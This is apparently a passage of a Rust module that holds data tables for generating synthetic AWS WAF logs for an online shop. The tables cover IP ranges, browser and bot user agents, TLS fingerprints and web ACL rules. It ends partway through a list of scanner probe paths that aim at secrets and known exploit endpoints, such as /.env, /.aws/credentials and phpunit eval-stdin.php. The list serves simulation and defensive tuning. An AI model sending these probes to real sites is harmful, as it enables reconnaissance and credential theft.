//! Static tables the generator draws from: countries and their address ranges, hosting ranges, user
//! agents, the shop's URL space, scanner probes and the rules of the simulated web ACL.
//!
//! Address ranges are real allocations of the named carriers / hosting providers as far as we know, or
//! documentation ranges (RFC 5737 / RFC 3849). The generator never consults a geo database: the country
//! and region it logs for an address are the ones in these tables.

/// A country the generator can place clients in.
pub(super) struct Country {
    pub code: &'static str,
    /// UTC offset used for the diurnal curve of the country's browsers.
    pub utc_offset_min: i32,
    /// `(ISO 3166-2 region, weight)`; empty when WAF would log no region label.
    pub regions: &'static [(&'static str, u32)],
    /// Consumer (residential / mobile) IPv4 prefixes with weights.
    pub v4: &'static [(&'static str, u32)],
    /// Consumer IPv6 prefixes (at most /32 long; addresses are drawn below them).
    pub v6: &'static [&'static str],
    /// `Accept-Language` values seen from browsers in that country.
    pub langs: &'static [&'static str],
}

pub(super) const COUNTRIES: &[Country] = &[
    Country {
        code: "JP",
        utc_offset_min: 9 * 60,
        regions: &[
            ("JP-13", 30),
            ("JP-27", 12),
            ("JP-14", 10),
            ("JP-23", 7),
            ("JP-11", 6),
            ("JP-12", 5),
            ("JP-28", 5),
            ("JP-01", 4),
            ("JP-40", 4),
            ("JP-26", 3),
            ("JP-22", 3),
            ("JP-04", 2),
            ("JP-34", 2),
            ("JP-47", 1),
        ],
        // SoftBank, NTT docomo (sp-mode), KDDI (au), OCN.
        v4: &[
            ("126.0.0.0/8", 30),
            ("49.96.0.0/12", 20),
            ("106.128.0.0/12", 20),
            ("220.96.0.0/14", 15),
            ("153.128.0.0/11", 15),
        ],
        v6: &["240b:10::/32", "2400:4050::/32", "2001:268::/32"],
        langs: &["ja,en-US;q=0.9,en;q=0.8", "ja-JP,ja;q=0.9", "ja", "ja-JP"],
    },
    Country {
        code: "US",
        utc_offset_min: -6 * 60,
        regions: &[
            ("US-CA", 5),
            ("US-NY", 3),
            ("US-TX", 3),
            ("US-WA", 2),
            ("US-IL", 2),
        ],
        v4: &[("73.0.0.0/8", 5), ("24.0.0.0/12", 3), ("99.0.0.0/10", 2)],
        v6: &["2601::/20", "2600:1700::/28"],
        langs: &["en-US,en;q=0.9", "en-US,en;q=0.9,ja;q=0.8"],
    },
    Country {
        code: "TW",
        utc_offset_min: 8 * 60,
        regions: &[("TW-TPE", 4), ("TW-NWT", 3), ("TW-TXG", 2), ("TW-KHH", 1)],
        v4: &[
            ("1.160.0.0/12", 3),
            ("36.224.0.0/12", 2),
            ("114.32.0.0/12", 2),
        ],
        v6: &["2001:b011::/32"],
        langs: &[
            "zh-TW,zh;q=0.9,en-US;q=0.8,en;q=0.7",
            "zh-TW,zh;q=0.9,ja;q=0.8",
        ],
    },
    Country {
        code: "KR",
        utc_offset_min: 9 * 60,
        regions: &[("KR-11", 5), ("KR-41", 3), ("KR-26", 1)],
        v4: &[
            ("121.128.0.0/10", 3),
            ("211.200.0.0/13", 2),
            ("175.192.0.0/10", 2),
        ],
        v6: &["2001:2d8::/32"],
        langs: &["ko-KR,ko;q=0.9,en-US;q=0.8,en;q=0.7"],
    },
    Country {
        code: "CN",
        utc_offset_min: 8 * 60,
        regions: &[("CN-SH", 3), ("CN-BJ", 3), ("CN-GD", 3), ("CN-ZJ", 2)],
        v4: &[
            ("36.96.0.0/11", 2),
            ("112.0.0.0/10", 2),
            ("183.0.0.0/10", 2),
        ],
        v6: &["240e::/20"],
        langs: &["zh-CN,zh;q=0.9", "zh-CN,zh;q=0.9,en;q=0.8"],
    },
    Country {
        code: "SG",
        utc_offset_min: 8 * 60,
        regions: &[("SG-01", 1)],
        v4: &[("175.156.0.0/14", 1), ("116.86.0.0/15", 1)],
        v6: &["2406:3003::/32"],
        langs: &["en-SG,en;q=0.9", "en-US,en;q=0.9,zh;q=0.8"],
    },
    Country {
        code: "DE",
        utc_offset_min: 60,
        regions: &[("DE-BE", 2), ("DE-BY", 3), ("DE-NW", 3), ("DE-HE", 2)],
        v4: &[("91.0.0.0/10", 3), ("79.192.0.0/10", 2)],
        v6: &["2003::/19"],
        langs: &["de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7"],
    },
    Country {
        code: "GB",
        utc_offset_min: 0,
        regions: &[("GB-ENG", 8), ("GB-SCT", 1)],
        v4: &[("81.96.0.0/12", 2), ("86.128.0.0/10", 2)],
        v6: &["2a00:23c0::/28"],
        langs: &["en-GB,en;q=0.9", "en-GB,en-US;q=0.9,en;q=0.8"],
    },
    Country {
        code: "AU",
        utc_offset_min: 10 * 60,
        regions: &[("AU-NSW", 3), ("AU-VIC", 3), ("AU-QLD", 1)],
        v4: &[("101.160.0.0/11", 2), ("120.144.0.0/13", 1)],
        v6: &["2001:8003::/32"],
        langs: &["en-AU,en;q=0.9", "en-AU,en-GB;q=0.9,en;q=0.8"],
    },
    Country {
        code: "FR",
        utc_offset_min: 60,
        regions: &[("FR-IDF", 3), ("FR-ARA", 1), ("FR-PAC", 1)],
        v4: &[("90.0.0.0/9", 3), ("86.192.0.0/11", 1)],
        v6: &["2a01:cb00::/24"],
        langs: &["fr-FR,fr;q=0.9,en-US;q=0.8,en;q=0.7"],
    },
    Country {
        code: "BR",
        utc_offset_min: -3 * 60,
        regions: &[("BR-SP", 4), ("BR-RJ", 2), ("BR-MG", 1)],
        v4: &[
            ("177.0.0.0/10", 2),
            ("189.0.0.0/11", 2),
            ("201.0.0.0/12", 1),
        ],
        v6: &["2804::/16"],
        langs: &["pt-BR,pt;q=0.9,en-US;q=0.8,en;q=0.7"],
    },
    Country {
        code: "IN",
        utc_offset_min: 5 * 60 + 30,
        regions: &[("IN-MH", 3), ("IN-KA", 2), ("IN-DL", 2), ("IN-TN", 1)],
        v4: &[
            ("49.32.0.0/12", 3),
            ("106.192.0.0/11", 2),
            ("117.192.0.0/11", 1),
        ],
        v6: &["2409:4000::/22"],
        langs: &["en-IN,en;q=0.9,hi;q=0.8", "en-US,en;q=0.9"],
    },
    Country {
        code: "VN",
        utc_offset_min: 7 * 60,
        regions: &[("VN-SG", 2), ("VN-HN", 2)],
        v4: &[
            ("14.160.0.0/11", 2),
            ("113.160.0.0/11", 1),
            ("171.224.0.0/11", 2),
        ],
        v6: &["2402:800::/32"],
        langs: &["vi-VN,vi;q=0.9,en-US;q=0.8,en;q=0.7"],
    },
    Country {
        code: "ID",
        utc_offset_min: 7 * 60,
        regions: &[("ID-JK", 3), ("ID-JB", 2), ("ID-JI", 1)],
        v4: &[
            ("36.64.0.0/11", 2),
            ("180.240.0.0/12", 1),
            ("114.120.0.0/13", 1),
        ],
        v6: &["2001:448a::/32"],
        langs: &["id-ID,id;q=0.9,en-US;q=0.8,en;q=0.7"],
    },
    Country {
        code: "RU",
        utc_offset_min: 3 * 60,
        regions: &[("RU-MOW", 3), ("RU-SPE", 1)],
        v4: &[
            ("95.24.0.0/13", 2),
            ("178.64.0.0/12", 1),
            ("46.138.0.0/15", 1),
        ],
        v6: &["2a00:1fa0::/28"],
        langs: &["ru-RU,ru;q=0.9,en-US;q=0.8,en;q=0.7"],
    },
    Country {
        code: "TR",
        utc_offset_min: 3 * 60,
        regions: &[("TR-34", 3), ("TR-06", 1), ("TR-35", 1)],
        v4: &[("78.160.0.0/11", 2), ("88.224.0.0/11", 2)],
        v6: &["2a02:e0::/29"],
        langs: &["tr-TR,tr;q=0.9,en-US;q=0.8,en;q=0.7"],
    },
];

/// Countries (other than home) that overseas shoppers come from, with weights.
pub(super) const OVERSEAS_SHOPPERS: &[(&str, u32)] = &[
    ("US", 30),
    ("TW", 25),
    ("KR", 20),
    ("CN", 15),
    ("SG", 10),
    ("DE", 7),
    ("GB", 6),
    ("AU", 5),
    ("FR", 3),
    ("JP", 20),
];

/// Countries residential proxies used by credential stuffers sit in.
pub(super) const PROXY_COUNTRIES: &[(&str, u32)] = &[
    ("US", 20),
    ("BR", 15),
    ("VN", 12),
    ("IN", 12),
    ("ID", 10),
    ("RU", 8),
    ("TR", 6),
    ("DE", 5),
    ("FR", 4),
    ("KR", 3),
    ("TW", 3),
    ("CN", 5),
];

pub(super) fn country(code: &str) -> Option<&'static Country> {
    COUNTRIES.iter().find(|c| c.code == code)
}

/// A hosting / cloud range attackers rent machines in.
pub(super) struct Hosting {
    pub cidr: &'static str,
    pub country: &'static str,
    pub region: Option<&'static str>,
}

/// The `clientAsn` of an address with [`crate::GenerateOptions::client_asn`]: documentation ASNs
/// (RFC 5398), one per hosting range (`64496 + index`), and one shared by every other address.
pub(super) fn asn_of(addr: std::net::IpAddr) -> u32 {
    HOSTING
        .iter()
        .position(|h| {
            h.cidr
                .parse::<ipnet::IpNet>()
                .is_ok_and(|net| net.contains(&addr))
        })
        .map_or(OTHER_ASN, |i| 64496 + i as u32)
}

/// The ASN of every address outside the hosting ranges (RFC 5398's last documentation ASN).
pub(super) const OTHER_ASN: u32 = 65551;

pub(super) const HOSTING: &[Hosting] = &[
    // DigitalOcean
    Hosting {
        cidr: "104.248.0.0/16",
        country: "NL",
        region: Some("NL-NH"),
    },
    Hosting {
        cidr: "143.198.0.0/16",
        country: "US",
        region: Some("US-CA"),
    },
    Hosting {
        cidr: "159.89.0.0/16",
        country: "SG",
        region: Some("SG-01"),
    },
    // Hetzner
    Hosting {
        cidr: "88.99.0.0/16",
        country: "DE",
        region: Some("DE-SN"),
    },
    Hosting {
        cidr: "95.216.0.0/16",
        country: "FI",
        region: Some("FI-18"),
    },
    // OVH
    Hosting {
        cidr: "51.68.0.0/16",
        country: "FR",
        region: Some("FR-HDF"),
    },
    // Linode / Akamai
    Hosting {
        cidr: "45.33.0.0/17",
        country: "US",
        region: Some("US-TX"),
    },
    // Vultr
    Hosting {
        cidr: "149.28.0.0/16",
        country: "US",
        region: Some("US-NJ"),
    },
    // Alibaba Cloud
    Hosting {
        cidr: "47.242.0.0/16",
        country: "HK",
        region: None,
    },
    Hosting {
        cidr: "8.219.0.0/16",
        country: "SG",
        region: Some("SG-01"),
    },
    // AWS us-east-1, GCP us-central1
    Hosting {
        cidr: "3.80.0.0/12",
        country: "US",
        region: Some("US-VA"),
    },
    Hosting {
        cidr: "35.192.0.0/14",
        country: "US",
        region: Some("US-IA"),
    },
    // Contabo
    Hosting {
        cidr: "5.189.128.0/17",
        country: "DE",
        region: Some("DE-BY"),
    },
];

/// The one /24 a cluster of neighbouring scanners shares (RFC 5737 TEST-NET-3).
pub(super) const SCANNER_CLUSTER_NET: &str = "203.0.113.0/24";
pub(super) const SCANNER_CLUSTER_COUNTRY: &str = "NL";

pub(super) const GOOGLEBOT_NET_24S: &[u8] = &[64, 65, 66, 68, 69, 70, 72, 73, 75, 79];
pub(super) const BINGBOT_NET: &str = "157.55.39.0/24";

/// How a client's requests are shaped on the wire.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub(super) enum Style {
    /// Chromium browsers (Chrome, Edge, Samsung Internet): client hints + sec-fetch-*.
    Chromium,
    Safari,
    Firefox,
    /// Search-engine crawler (`From` header for Googlebot).
    Crawler,
    /// python-requests, Go: Host, User-Agent, Accept-Encoding, Accept, Connection.
    Library,
    /// curl, zgrab, monitors: Host, User-Agent, Accept.
    Minimal,
    /// No User-Agent header at all.
    NoAgent,
}

pub(super) struct Agent {
    pub ua: &'static str,
    pub style: Style,
    pub http2: bool,
    pub mobile: bool,
    /// `sec-ch-ua` for Chromium styles.
    pub ch_ua: &'static str,
    /// `sec-ch-ua-platform` for Chromium styles.
    pub platform: &'static str,
    pub ja4: &'static str,
    /// Fixed JA3; `None` for Chromium, which permutes TLS extensions per connection.
    pub ja3: Option<&'static str>,
}

const CH_CHROME: &str =
    "\"Chromium\";v=\"142\", \"Google Chrome\";v=\"142\", \"Not_A Brand\";v=\"99\"";
const CH_EDGE: &str =
    "\"Chromium\";v=\"142\", \"Microsoft Edge\";v=\"142\", \"Not_A Brand\";v=\"99\"";
const CH_SAMSUNG: &str =
    "\"Chromium\";v=\"130\", \"Samsung Internet\";v=\"28.0\", \"Not?A_Brand\";v=\"99\"";
const CH_HEADLESS: &str = "\"Chromium\";v=\"131\", \"Not_A Brand\";v=\"24\"";
const JA4_CHROME: &str = "t13d1516h2_8daaf6152771_d8a2da3f94cd";
const JA4_SAFARI: &str = "t13d2014h2_a09f3c656075_14788d8d241b";
const JA4_FIREFOX: &str = "t13d1717h2_5b57614c22b0_3cbfd9057e0d";

const fn browser(
    ua: &'static str,
    style: Style,
    mobile: bool,
    ch_ua: &'static str,
    platform: &'static str,
) -> Agent {
    let (ja4, ja3) = match style {
        Style::Safari => (JA4_SAFARI, Some("773906b0efdefa24a7f2b8eb6985bf37")),
        Style::Firefox => (JA4_FIREFOX, Some("6f7889b9fb1a62a9577e685c1fcfa919")),
        _ => (JA4_CHROME, None),
    };
    Agent {
        ua,
        style,
        http2: true,
        mobile,
        ch_ua,
        platform,
        ja4,
        ja3,
    }
}

const fn tool(ua: &'static str, style: Style, ja4: &'static str, ja3: &'static str) -> Agent {
    Agent {
        ua,
        style,
        http2: false,
        mobile: false,
        ch_ua: "",
        platform: "",
        ja4,
        ja3: Some(ja3),
    }
}

/// Browsers with weights for shoppers in Japan (iPhone-heavy) and elsewhere.
pub(super) const BROWSERS: &[(Agent, u32, u32)] = &[
    (
        browser(
            "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.0 Mobile/15E148 Safari/604.1",
            Style::Safari,
            true,
            "",
            "",
        ),
        34,
        15,
    ),
    (
        browser(
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.7 Mobile/15E148 Safari/604.1",
            Style::Safari,
            true,
            "",
            "",
        ),
        8,
        4,
    ),
    (
        browser(
            "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36",
            Style::Chromium,
            true,
            CH_CHROME,
            "\"Android\"",
        ),
        16,
        22,
    ),
    (
        browser(
            "Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/28.0 Chrome/130.0.0.0 Mobile Safari/537.36",
            Style::Chromium,
            true,
            CH_SAMSUNG,
            "\"Android\"",
        ),
        2,
        5,
    ),
    (
        browser(
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
            Style::Chromium,
            false,
            CH_CHROME,
            "\"Windows\"",
        ),
        18,
        26,
    ),
    (
        browser(
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0",
            Style::Chromium,
            false,
            CH_EDGE,
            "\"Windows\"",
        ),
        6,
        6,
    ),
    (
        browser(
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
            Style::Chromium,
            false,
            CH_CHROME,
            "\"macOS\"",
        ),
        7,
        10,
    ),
    (
        browser(
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.0 Safari/605.1.15",
            Style::Safari,
            false,
            "",
            "",
        ),
        5,
        5,
    ),
    (
        browser(
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:144.0) Gecko/20100101 Firefox/144.0",
            Style::Firefox,
            false,
            "",
            "",
        ),
        4,
        7,
    ),
];

pub(super) const GOOGLEBOT_DESKTOP: Agent = tool(
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    Style::Crawler,
    "t13d1713h2_5b57614c22b0_748f4c70de1c",
    "f9cfe0e8a2bf52d7ad8dc8a6cfd9cb2e",
);
pub(super) const GOOGLEBOT_SMARTPHONE: Agent = tool(
    "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.7444.59 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    Style::Crawler,
    "t13d1713h2_5b57614c22b0_748f4c70de1c",
    "f9cfe0e8a2bf52d7ad8dc8a6cfd9cb2e",
);
pub(super) const BINGBOT: Agent = tool(
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    Style::Crawler,
    "t13d2013h2_a09f3c656075_e42f34c56612",
    "3b5074b1b5d032e5620f69f9f700ff0e",
);
/// What a fake Googlebot looks like on the wire: the UA is right, the TLS stack is Go's or Python's.
pub(super) const FAKE_GOOGLEBOT: Agent = tool(
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    Style::Crawler,
    "t13d1311h1_e8f1e7e78f70_b26ce05bbdd6",
    "473cd7cb9faa642487833865d516e578",
);
pub(super) const FAKE_GOOGLEBOT_SMARTPHONE: Agent = tool(
    "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.204 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    Style::Crawler,
    "t13d1311h1_e8f1e7e78f70_b26ce05bbdd6",
    "473cd7cb9faa642487833865d516e578",
);
pub(super) const FAKE_BINGBOT: Agent = tool(
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    Style::Crawler,
    "t13d1812h1_85036bcba153_b26ce05bbdd6",
    "8d9f7747675e24454cd9b7ed35c58707",
);
pub(super) const PYTHON_REQUESTS: Agent = tool(
    "python-requests/2.32.3",
    Style::Library,
    "t13d1812h1_85036bcba153_b26ce05bbdd6",
    "8d9f7747675e24454cd9b7ed35c58707",
);
pub(super) const CURL: Agent = tool(
    "curl/8.5.0",
    Style::Minimal,
    "t13d3112h2_e8f1e7e78f70_6bebaf5329ac",
    "375c6162a492dfbf2795909110ce8424",
);
pub(super) const HEADLESS_CHROME: Agent = Agent {
    ua: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.0.0 Safari/537.36",
    style: Style::Chromium,
    http2: true,
    mobile: false,
    ch_ua: CH_HEADLESS,
    platform: "\"Linux\"",
    ja4: JA4_CHROME,
    ja3: None,
};

/// Scanner user agents with weights. An empty UA trips CRS NoUserAgent_HEADER, Nikto trips
/// UserAgent_BadBots_HEADER; the others pass the managed rules.
pub(super) const SCANNER_AGENTS: &[(Agent, u32)] = &[
    (
        tool(
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36",
            Style::Minimal,
            "t13d1311h1_e8f1e7e78f70_b26ce05bbdd6",
            "473cd7cb9faa642487833865d516e578",
        ),
        30,
    ),
    (
        tool(
            "Mozilla/5.0 zgrab/0.x",
            Style::Minimal,
            "t13d1311h1_e8f1e7e78f70_b26ce05bbdd6",
            "473cd7cb9faa642487833865d516e578",
        ),
        15,
    ),
    (
        tool(
            "Go-http-client/1.1",
            Style::Library,
            "t13d1311h1_e8f1e7e78f70_b26ce05bbdd6",
            "473cd7cb9faa642487833865d516e578",
        ),
        15,
    ),
    (
        tool(
            "python-requests/2.31.0",
            Style::Library,
            "t13d1812h1_85036bcba153_b26ce05bbdd6",
            "8d9f7747675e24454cd9b7ed35c58707",
        ),
        10,
    ),
    (
        tool(
            "curl/7.88.1",
            Style::Minimal,
            "t13d3112h2_e8f1e7e78f70_6bebaf5329ac",
            "375c6162a492dfbf2795909110ce8424",
        ),
        10,
    ),
    (
        tool(
            "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
            Style::Minimal,
            "t12d2910h1_d34a8e72043a_9f7a6b1c4e2d",
            "e7d705a3286e19ea42f587b344ee6865",
        ),
        5,
    ),
    (
        tool(
            "",
            Style::NoAgent,
            "t13d1311h1_e8f1e7e78f70_b26ce05bbdd6",
            "473cd7cb9faa642487833865d516e578",
        ),
        8,
    ),
];

/// An uptime monitor: name (also its Bot Control `bot:name:` value), agent, source range, country.
pub(super) struct Monitor {
    pub name: &'static str,
    /// Bot Control's `bot:name:` label for it.
    pub label: &'static str,
    pub agent: Agent,
    pub net: &'static str,
    pub country: &'static str,
}

const fn monitor(
    name: &'static str,
    label: &'static str,
    ua: &'static str,
    net: &'static str,
    country: &'static str,
) -> Monitor {
    Monitor {
        name,
        label,
        agent: tool(
            ua,
            Style::Minimal,
            "t13d1311h1_e8f1e7e78f70_b26ce05bbdd6",
            "473cd7cb9faa642487833865d516e578",
        ),
        net,
        country,
    }
}

pub(super) const MONITORS: &[Monitor] = &[
    monitor(
        "pingdom",
        "awswaf:managed:aws:bot-control:bot:name:pingdom",
        "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
        "5.172.196.0/24",
        "SE",
    ),
    monitor(
        "uptimerobot",
        "awswaf:managed:aws:bot-control:bot:name:uptimerobot",
        "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
        "216.144.248.0/21",
        "US",
    ),
    monitor(
        "route53_health_check",
        "awswaf:managed:aws:bot-control:bot:name:route53_health_check",
        "Amazon-Route53-Health-Check-Service (ref 6a1c9d0e-7f42-4b8a-9e51-3c2d8f0b7a64; report http://amzn.to/1vsZADi)",
        "54.248.220.0/26",
        "JP",
    ),
    monitor(
        "site24x7",
        "awswaf:managed:aws:bot-control:bot:name:site24x7",
        "Site24x7",
        "104.236.16.0/22",
        "US",
    ),
    monitor(
        "datadog_synthetics",
        "awswaf:managed:aws:bot-control:bot:name:datadog_synthetics",
        "Datadog/Synthetics",
        "3.18.172.0/24",
        "US",
    ),
];

pub(super) const CATEGORIES: &[&str] = &[
    "mens-fashion",
    "womens-fashion",
    "shoes",
    "bags",
    "watches",
    "kitchen",
    "furniture",
    "electronics",
    "cameras",
    "books",
    "toys",
    "sports",
    "outdoor",
    "beauty",
    "food",
    "drinks",
    "pets",
    "garden",
    "stationery",
    "baby",
];

/// Search terms as shoppers type them (percent-encoded when rendered).
pub(super) const SEARCH_TERMS: &[&str] = &[
    "スニーカー",
    "財布",
    "腕時計",
    "ワンピース",
    "リュック",
    "炊飯器",
    "ワイヤレスイヤホン",
    "コーヒー豆",
    "加湿器",
    "ダウンジャケット",
    "福袋",
    "ブラックフライデー",
    "電気毛布",
    "マフラー",
    "ギフト",
    "nike",
    "iphone ケース",
    "switch",
    "レインブーツ",
    "こたつ",
    "ホットクック",
    "ル・クルーゼ",
    "ノートパソコン",
    "ドッグフード",
];

/// Number of products in the shop (ids 1..=PRODUCTS).
pub(super) const PRODUCTS: u32 = 24_000;

/// The managed rule groups of the simulated web ACL, in evaluation order.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Debug)]
pub(super) enum Group {
    Common = 0,
    KnownBadInputs = 1,
    BotControl = 2,
}

pub(super) const GROUP_IDS: [&str; 3] = [
    "AWS#AWSManagedRulesCommonRuleSet",
    "AWS#AWSManagedRulesKnownBadInputsRuleSet",
    "AWS#AWSManagedRulesBotControlRuleSet",
];
/// The names the web ACL gives its managed-rule-group statements (console default).
pub(super) const GROUP_RULE_NAMES: [&str; 3] = [
    "AWS-AWSManagedRulesCommonRuleSet",
    "AWS-AWSManagedRulesKnownBadInputsRuleSet",
    "AWS-AWSManagedRulesBotControlRuleSet",
];

/// A blocking rule inside a managed rule group.
pub(super) struct ManagedBlock {
    pub group: Group,
    pub rule: &'static str,
    pub label: &'static str,
    /// Custom response code configured through a rule action override, if any.
    pub response: Option<u16>,
    /// `(conditionType, location, matchedData)` logged for SQLi/XSS style matches.
    pub detail: Option<(&'static str, &'static str, &'static [&'static str])>,
}

pub(super) const MB_NO_USER_AGENT: u8 = 0;
pub(super) const MB_BAD_BOTS: u8 = 1;
pub(super) const MB_LFI_QUERY: u8 = 2;
pub(super) const MB_LFI_URI: u8 = 3;
pub(super) const MB_RESTRICTED_EXT: u8 = 4;
pub(super) const MB_SSRF: u8 = 5;
pub(super) const MB_XSS_QUERY: u8 = 6;
pub(super) const MB_LOG4J: u8 = 7;
pub(super) const MB_EXPLOITABLE_PATHS: u8 = 8;
pub(super) const MB_HOST_LOCALHOST: u8 = 9;

pub(super) const MANAGED_BLOCKS: &[ManagedBlock] = &[
    ManagedBlock {
        group: Group::Common,
        rule: "NoUserAgent_HEADER",
        label: "awswaf:managed:aws:core-rule-set:NoUserAgent_Header",
        response: None,
        detail: None,
    },
    ManagedBlock {
        group: Group::Common,
        rule: "UserAgent_BadBots_HEADER",
        label: "awswaf:managed:aws:core-rule-set:BadBots_Header",
        response: None,
        detail: None,
    },
    ManagedBlock {
        group: Group::Common,
        rule: "GenericLFI_QUERYARGUMENTS",
        label: "awswaf:managed:aws:core-rule-set:GenericLFI_QueryArguments",
        response: None,
        detail: None,
    },
    ManagedBlock {
        group: Group::Common,
        rule: "GenericLFI_URIPATH",
        label: "awswaf:managed:aws:core-rule-set:GenericLFI_URIPath",
        response: None,
        detail: None,
    },
    ManagedBlock {
        group: Group::Common,
        rule: "RestrictedExtensions_URIPATH",
        label: "awswaf:managed:aws:core-rule-set:RestrictedExtensions_URIPath",
        response: None,
        detail: None,
    },
    ManagedBlock {
        group: Group::Common,
        rule: "EC2MetaDataSSRF_QUERYARGUMENTS",
        label: "awswaf:managed:aws:core-rule-set:EC2MetaDataSSRF_QueryArguments",
        response: None,
        detail: None,
    },
    ManagedBlock {
        group: Group::Common,
        rule: "CrossSiteScripting_QUERYARGUMENTS",
        label: "awswaf:managed:aws:core-rule-set:CrossSiteScripting_QueryArguments",
        response: None,
        detail: Some(("XSS", "ALL_QUERY_ARGS", &["<", "script"])),
    },
    ManagedBlock {
        group: Group::KnownBadInputs,
        rule: "Log4JRCE_QUERYSTRING",
        label: "awswaf:managed:aws:known-bad-inputs:Log4JRCE_QueryString",
        response: None,
        detail: None,
    },
    ManagedBlock {
        group: Group::KnownBadInputs,
        rule: "ExploitablePaths_URIPATH",
        label: "awswaf:managed:aws:known-bad-inputs:ExploitablePaths_URIPath",
        response: Some(404),
        detail: None,
    },
    ManagedBlock {
        group: Group::KnownBadInputs,
        rule: "Host_localhost_HEADER",
        label: "awswaf:managed:aws:known-bad-inputs:Host_Localhost_Header",
        response: None,
        detail: None,
    },
];

/// The web ACL's own rules (besides the managed groups).
pub(super) const RULE_CMS_PROBES: &str = "block-cms-probes";
pub(super) const RULE_RATE_LIMIT: &str = "waftune-rate-limit-ip";
pub(super) const RULE_WATCH_LOGIN: &str = "waftune-watch-login";
pub(super) const RULE_LOGIN_CAPTCHA: &str = "login-rate-captcha";
/// Rate rule: requests per IP per evaluation window; scope-down excludes verified bots.
pub(super) const RATE_LIMIT: usize = 1_500;
pub(super) const RATE_WINDOW_MS: i64 = 300_000;
/// Login rate rule (CAPTCHA): POSTs to the login endpoints per IP per window.
pub(super) const LOGIN_LIMIT: usize = 200;
pub(super) const CMS_RESPONSE: u16 = 403;
pub(super) const RATE_RESPONSE: u16 = 429;

/// How a probe is stopped, if at all.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub(super) enum ProbeBlock {
    /// Reaches the origin (which answers 404; WAF logs ALLOW).
    None,
    /// Index into [`MANAGED_BLOCKS`].
    Managed(u8),
    /// The ACL's own `block-cms-probes` rule.
    Cms,
}

pub(super) struct Probe {
    pub uri: String,
    pub args: &'static str,
    pub post: bool,
    pub block: ProbeBlock,
}

/// The URIs scanners try. Deterministic, built once per run.
pub(super) fn probes() -> Vec<Probe> {
    use ProbeBlock::{Cms, Managed, None as Pass};
    let fixed: &[(&str, &str, bool, ProbeBlock)] = &[
        ("/.env", "", false, Cms),
        ("/.git/config", "", false, Cms),
        ("/.git/HEAD", "", false, Cms),
        ("/wp-login.php", "", false, Cms),
        ("/wp-admin/setup-config.php", "", false, Cms),
        ("/wp-admin/install.php", "", false, Cms),
        ("/xmlrpc.php", "", true, Cms),
        ("/wp-includes/wlwmanifest.xml", "", false, Cms),
        ("/phpmyadmin/", "", false, Cms),
        ("/phpMyAdmin/index.php", "", false, Cms),
        ("/admin.php", "", false, Pass),
        ("/config.json", "", false, Pass),
        (
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            "",
            true,
            Pass,
        ),
        (
            "/vendor/phpunit/src/Util/PHP/eval-stdin.php",
            "",
            true,
            Pass,
        ),
        ("/actuator/env", "", false, Pass),
        ("/actuator/health", "", false, Pass),
        ("/actuator/gateway/routes", "", false, Pass),
        ("/server-status", "", false, Pass),
        ("/.DS_Store", "", false, Pass),
        ("/.aws/credentials", "", false, Pass),
        ("/.vscode/sftp.json", "", false, Pass),
        ("/sftp-config.json", "", false, Pass),
        ("/info.php", "", false, Pass),
        ("/phpinfo.php", "", false, Pass),
        ("/_ignition/execute-solution", "", true, Pass),
        ("/telescope/requests", "", false, Pass),
        ("/debug/default/view", "panel=config", false, Pass),
        ("/console/", "", false, Pass),
        ("/solr/admin/info/system", "wt=json", false, Pass),
        ("/owa/auth/logon.aspx", "", false, Pass),
        ("/remote/login", "lang=en", false, Pass),
        ("/global-protect/login.esp", "", false, Pass),
        ("/boaform/admin/formLogin", "", true, Pass),
        ("/HNAP1/", "", false, Pass),
        ("/login.action", "", false, Pass),
        ("/geoserver/web/", "", false, Pass),
        ("/api/v1/pods", "", false, Pass),
        ("/swagger-ui.html", "", false, Pass),
        ("/v2/api-docs", "", false, Pass),
        (
            "/graphql",
            "query=%7B__schema%7Btypes%7Bname%7D%7D%7D",
            false,
            Pass,
        ),
        ("/backup.zip", "", false, Pass),
